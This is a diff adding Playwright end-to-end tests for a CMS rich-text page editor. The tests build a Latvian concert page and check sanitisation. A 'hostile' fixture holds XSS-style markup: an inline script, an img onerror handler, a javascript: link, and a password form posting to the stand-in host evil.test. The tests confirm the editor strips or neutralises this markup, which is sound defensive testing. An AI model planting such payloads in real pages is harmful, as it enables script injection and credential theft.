@@ -1,0 +1,168 @@
+import type { Locator, Page } from '@playwright/test'
+
+import { expect, test } from '../fixtures/test'
+
+test.beforeEach(async ({ world }) => {
+  await world.signInAs('admin')
+  await world.setLanguage('en')
+})
+
+/** A picture that a phone would upload, in any shape. */
+const picture = {
+  name: 'plakāts.svg',
+  mimeType: 'image/svg+xml',
+  buffer: Buffer.from(
+    '<svg xmlns="http://www.w3.org/2000/svg" width="320" height="180"><rect width="320" height="180" fill="#1a6248"/></svg>',
+  ),
+}
+
+const tool = (page: Page, name: string): Locator =>
+  page.getByRole('toolbar', { name: 'Formatting' }).getByRole('button', { name, exact: true })
+
+const content = (page: Page): Locator => page.getByRole('textbox', { name: 'Content' })
+
+test('writes a page with a list, a link and an image, previews it in the dark, and reads it as a guest', async ({
+  page,
+  world,
+  expectAccessible,
+}) => {
+  await page.goto('admin/custom-pages')
+  await page.getByRole('link', { name: 'New page' }).click()
+  await page.getByRole('textbox', { name: 'Title', exact: true }).fill('Koncerts Jūnijā')
+  await expect(page.getByRole('textbox', { name: 'Slug' })).toHaveValue('koncerts-junija')
+
+  await content(page).click()
+  await tool(page, 'Heading').click()
+  await expect(tool(page, 'Heading')).toHaveAttribute('aria-pressed', 'true')
+  await page.keyboard.type('Programma')
+  await page.keyboard.press('Enter')
+  // One stop of the Tab key: from the content back to the button that was used last, and on with the arrow keys.
+  await page.keyboard.press('Shift+Tab')
+  await expect(tool(page, 'Heading')).toBeFocused()
+  for (let press = 0; press < 5; press += 1) await page.keyboard.press('ArrowRight')
+  await expect(tool(page, 'Bulleted list')).toBeFocused()
+  await page.keyboard.press('Enter')
+  await page.keyboard.type('Aijā, žūžū')
+  await page.keyboard.press('Enter')
+  await page.keyboard.type('Kur tu teci')
+  await page.keyboard.press('Enter')
+  await page.keyboard.press('Enter')
+
+  await page.keyboard.type('Biļetes: ')
+  await tool(page, 'Link').click()
+  const link = page.getByRole('dialog', { name: 'Insert link' })
+  await link.getByRole('textbox', { name: 'Link address' }).fill('javascript:alert(1)')
+  await link.getByRole('button', { name: 'Apply' }).click()
+  await expect(link.getByText(/^Enter a web address/)).toBeVisible()
+  await link.getByRole('textbox', { name: 'Link address' }).fill('https://www.example.com/biletes')
+  await link.getByRole('textbox', { name: 'Text of the link' }).fill('pie draugiem')
+  await page.keyboard.press('Enter')
+  await page.keyboard.press('Enter')
+
+  await tool(page, 'Image').click()
+  const image = page.getByRole('dialog', { name: 'Insert image' })
+  await image.getByLabel('Image', { exact: true }).and(page.locator('input')).setInputFiles(picture)
+  await image.getByRole('textbox', { name: 'Alternative text' }).fill('Koncerta plakāts')
+  await image.getByRole('button', { name: 'Apply' }).click()
+  await expect(content(page).getByRole('img', { name: 'Koncerta plakāts' })).toBeVisible()
+  await expectAccessible()
+
+  await page.getByRole('tab', { name: 'Preview' }).click()
+  await page.getByRole('tab', { name: 'Dark' }).click()
+  const preview = page.getByRole('region', { name: 'Preview', exact: true })
+  await expect(preview.getByRole('heading', { level: 2, name: 'Programma' })).toBeVisible()
+  await expect(preview).toHaveCSS('color-scheme', 'dark')
+  await expect(preview).toHaveCSS('background-color', 'rgb(17, 25, 43)')
+  await page.getByRole('textbox', { name: 'Description' }).fill('Bērnu dziesmas jūnija vakarā.')
+  await page.keyboard.press('Control+s')
+  await expect(page.getByRole('heading', { level: 1, name: 'Koncerts Jūnijā' }).first()).toBeVisible()
+
+  await world.change({ signInAs: 'guest' })
+  await page.goto('pages/koncerts-junija')
+  const article = page.getByRole('article')
+  await expect(article.getByRole('heading', { level: 1, name: 'Koncerts Jūnijā' })).toBeVisible()
+  await expect(article.getByRole('heading', { level: 2, name: 'Programma' })).toBeVisible()
+  await expect(article.getByRole('listitem')).toHaveText(['Aijā, žūžū', 'Kur tu teci'])
+  await expect(article.getByRole('link', { name: 'pie draugiem' })).toHaveAttribute(
+    'href',
+    'https://www.example.com/biletes',
+  )
+  const poster = article.getByRole('img', { name: 'Koncerta plakāts' })
+  await expect(poster).toHaveJSProperty('naturalWidth', 320)
+  await expect(page.locator('head meta[name=description]')).toHaveAttribute('content', 'Bērnu dziesmas jūnija vakarā.')
+})
+
+const hostile = `<p id="root" style="position:fixed;inset:0">Sveiki</p><script>window.attacked = true</script>
+<img src="images/none.png" alt="Lācis" onerror="window.attacked = true"><style>* { display: none }</style>
+<form action="//evil.test"><input name="password"></form><a href="javascript:window.attacked = true">Saite</a>`
+
+type Pasted = { html: string } | { svg: string }
+
+/** Pastes HTML or a file into the focused element, as from another page or a folder. */
+const paste = (page: Page, pasted: Pasted): Promise<void> =>
+  page.evaluate((data) => {
+    const clipboardData = new DataTransfer()
+    if ('html' in data) clipboardData.setData('text/html', data.html)
+    else clipboardData.items.add(new File([data.svg], 'bilde.svg', { type: 'image/svg+xml' }))
+    document.activeElement?.dispatchEvent(
+      new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }),
+    )
+  }, pasted)
+
+test('keeps stored markup as source without running it, asks before dropping it, and restores the draft', async ({
+  page,
+  expectAccessible,
+}) => {
+  await page.goto('admin/custom-pages/3')
+  await expect(content(page)).toBeVisible()
+  await content(page).click()
+  await page.keyboard.press('Control+a')
+  await paste(page, { html: hostile })
+  await expect(content(page).getByRole('img', { name: 'Lācis' })).toBeAttached()
+  await expect(content(page).locator('script, style, form, [style], [onerror], [href]')).toHaveCount(0)
+
+  await paste(page, { svg: picture.buffer.toString() })
+  await expect(page.getByRole('dialog', { name: 'Insert image' }).getByText('Uploaded')).toBeAttached()
+  await page.keyboard.press('Escape')
+
+  await page.getByRole('tab', { name: 'HTML' }).click()
+  await content(page).click()
+  await page.keyboard.press('Control+a')
+  await page.keyboard.insertText(hostile)
+  await expect(page.getByText(/it would remove or change style, id, script, onerror/)).toBeVisible()
+  await expectAccessible()
+  await expect(page.getByText('Unsaved changes')).toBeVisible()
+  await page.keyboard.press('Control+s')
+  await expect(page.getByText('Saved')).toBeVisible()
+  await page.keyboard.press('Tab')
+  await expect(content(page)).toBeFocused()
+  await page.keyboard.press('Control+z')
+  await page.keyboard.press('Escape')
+  await page.keyboard.press('Tab')
+  await expect(content(page)).not.toBeFocused()
+
+  await page.reload()
+  await expect(page.getByRole('tab', { name: 'HTML' })).toHaveAttribute('aria-selected', 'true')
+  await expect(content(page)).toContainText('window.attacked = true')
+  await page.getByRole('tab', { name: 'Preview' }).click()
+  const preview = page.getByRole('region', { name: 'Preview', exact: true })
+  await expect(preview.getByText('Sveiki')).toBeVisible()
+  await expect(preview.locator('script, style, form, [onerror], [href]')).toHaveCount(0)
+
+  await page.getByRole('tab', { name: 'Visual' }).click()
+  const question = page.getByRole('dialog', { name: /^Remove what the visual editor/ })
+  await question.getByRole('button', { name: 'Cancel' }).click()
+  await expect(page.getByRole('tab', { name: 'Preview' })).toHaveAttribute('aria-selected', 'true')
+  await page.getByRole('tab', { name: 'Visual' }).click()
+  await question.getByRole('button', { name: 'Remove and open' }).click()
+  await expect(content(page).getByRole('img', { name: 'Lācis' })).toBeAttached()
+  await expect(page.getByText('Unsaved changes')).toBeVisible()
+
+  page.once('dialog', (dialog) => void dialog.accept())
+  await page.reload()
+  await expect(page.getByText('We restored your draft.')).toBeVisible()
+  await expect(page.getByRole('tab', { name: 'Visual' })).toHaveAttribute('aria-selected', 'true')
+  await page.getByRole('button', { name: 'Discard draft' }).click()
+  await expect(page.getByRole('tab', { name: 'HTML' })).toHaveAttribute('aria-selected', 'true')
+  expect(await page.evaluate(() => 'attacked' in window)).toBe(false)
+})
